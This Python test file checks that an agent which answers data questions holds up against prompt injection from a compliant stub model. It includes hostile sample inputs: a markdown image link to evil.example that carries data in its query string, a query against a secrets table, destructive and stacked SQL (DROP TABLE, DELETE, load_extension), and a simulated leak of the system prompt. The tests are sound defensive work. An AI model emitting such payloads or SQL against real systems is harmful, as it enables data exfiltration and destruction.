"""Prompt injection through the whole graph with an obedient model: no other table, link or prompt leak."""

import re
from typing import Any

import pytest

from agent.llm.analyst import ModelAnalyst
from agent.llm.chat_models import open_model
from agent.llm.options import LlmOptions
from agent.llm.prompts import FOLDER
from graph.events import Chart, DraftWritten, Evidence, Suggestions, TextDelta, Verdict
from tests.fixtures.assistants import THREAD, scripted_assistant
from tests.fixtures.llm.stub_server import Reply, form_reply, run_stub_server
from tests.fixtures.scripted_analyst import ScriptedTarget, make_rows

EVIL = "![x](https://evil.example/?d=12) <img src=//evil.example> www.evil.example"
SECRET_SQL = "SELECT k, v FROM secrets"
PROMPTS = [path.read_text(encoding="utf-8") for path in FOLDER.glob("*.md")]
ACTS = re.compile(r"\]\(|!\[|<[a-z/]|://|www\.", re.IGNORECASE)
QUESTION: Any = {"question": "Which pets are there?", "database": "pets"}


def leaked(name: str) -> str:
    """A stretch of our own instructions, as a model would recite it."""
    return (FOLDER / f"{name}.md").read_text(encoding="utf-8")[100:400]


def gullible(body: dict[str, Any], words: str, first_sql: str, recites: bool) -> Reply:
    schema = body.get("response_format", {}).get("json_schema", {}).get("name")
    if schema == "intent":
        text = leaked("understand") if recites else words
        return form_reply(kind="data", question="Which pets?", plan=[text, text], assumptions=[text])
    if schema == "draft":
        text = leaked("draft") if recites else words
        tried = first_sql in str(body["messages"])
        sql = "SELECT name, count(*) AS n FROM pets GROUP BY name" if tried else first_sql
        return form_reply(
            sql=sql, reading=text, assumptions=[text], chart=text, follow_ups=[text], confidence=0.9
        )
    return Reply([leaked("narrate")]) if recites else Reply(list(words))


async def turn(recites: bool, sql: str = SECRET_SQL) -> tuple[list[Any], ScriptedTarget]:
    target = ScriptedTarget([make_rows(["name", "n"], [(EVIL, 1), ("Bo", 2)])] * 3)
    async with (
        run_stub_server(lambda body: gullible(body, EVIL, sql, recites)) as stub,
        open_model("stub", stub.url, None, 5.0) as model,
    ):
        analyst = ModelAnalyst(model, options=LlmOptions(timeout_s=5.0))
        assistant = scripted_assistant(analyst, target)
        events: list[Any] = []
        context = await assistant.contexts.create("pets", None, events.append)
        try:
            await assistant.graph.ainvoke(QUESTION, THREAD, context=context)
        except Exception as error:  # noqa: BLE001 – a typed end is an end too
            events.append(error)
        return events, target


def shown(events: list[Any]) -> list[str]:
    """Every text of a model that reaches a person, but for rows, which are shown as they are."""
    texts: list[str] = ["".join(event.text for event in events if isinstance(event, TextDelta))]
    for event in events:
        match event:
            case DraftWritten():
                texts += [event.reading, *event.assumptions]
            case Evidence():
                texts += [event.question, event.reading, *event.assumptions]
            case Suggestions():
                texts += event.questions
    return texts


async def test_a_gullible_model_reaches_no_other_table() -> None:
    events, target = await turn(recites=False)
    assert next(event.approved for event in events if isinstance(event, Verdict)) is False
    assert target.executed
    assert not any("secrets" in sql for sql in target.executed)


@pytest.mark.parametrize(
    "sql",
    ["DROP TABLE pets", "SELECT name FROM pets; DELETE FROM pets", "SELECT load_extension('x') FROM pets"],
)
async def test_a_gullible_model_changes_nothing(sql: str) -> None:
    _, target = await turn(recites=False, sql=sql)
    assert all(ran.startswith("SELECT") and "load_extension" not in ran for ran in target.executed)


async def test_nothing_it_says_is_a_link_an_image_or_a_tag() -> None:
    events, _ = await turn(recites=False)
    assert any("evil.example" in text for text in shown(events))
    for text in shown(events):
        assert not ACTS.search(text), text


async def test_what_it_recites_of_our_prompts_is_not_shown() -> None:
    events, _ = await turn(recites=True)
    for text in shown(events):
        for at in range(0, max(len(text) - 80, 0), 20):
            assert not any(text[at : at + 80] in prompt for prompt in PROMPTS), text


async def test_its_proposal_of_a_chart_never_gets_into_one() -> None:
    events, _ = await turn(recites=False)
    charts = [event for event in events if isinstance(event, Chart)]
    assert charts
    for chart in charts:
        spec = {key: value for key, value in chart.spec.items() if key not in ("data", "$schema")}
        assert "evil" not in str(spec)
